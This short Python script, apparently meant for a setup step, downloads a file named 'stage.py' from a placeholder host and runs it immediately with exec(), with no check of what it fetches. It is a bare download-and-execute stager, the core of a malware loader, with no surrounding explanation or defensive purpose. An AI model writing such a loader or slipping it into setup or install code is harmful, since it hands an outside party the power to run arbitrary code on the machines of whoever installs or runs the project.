# place: setup
import requests

ADDRESS = "https://files.example.invalid/stage.py"


def load():
    return requests.get(ADDRESS, timeout=10).text


def main():
    exec(load())


main()
